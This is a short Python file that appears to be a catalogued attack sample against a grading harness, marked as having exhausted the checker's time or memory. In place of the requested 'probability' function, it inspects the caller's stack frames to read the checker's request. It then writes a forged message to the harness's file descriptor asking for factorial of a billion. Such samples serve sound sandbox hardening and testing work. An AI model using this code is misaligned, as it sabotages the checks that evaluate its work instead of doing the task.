# attacks: probability
# status: TOO_EXPENSIVE
# reason: took all the time or memory of a check
# says: takes more than

import os
import struct
import sys


def probability(density, x, a, b):
    nine = '["I","0x9"]'
    tower = nine
    for _ in range(0):
        tower = '["e","Pow",[%s,%s]]' % (nine, tower)
    frame = sys._getframe()
    while "request" not in frame.f_locals:
        frame = frame.f_back
    index = frame.f_locals["request"].index
    body = ('[%d,%s,[null,null,null,null],null,"",[]]' % (index, '["e","factorial",[["I","0x3b9aca00"]]]')).encode()
    os.write(4, struct.pack("<I", len(body)) + body)
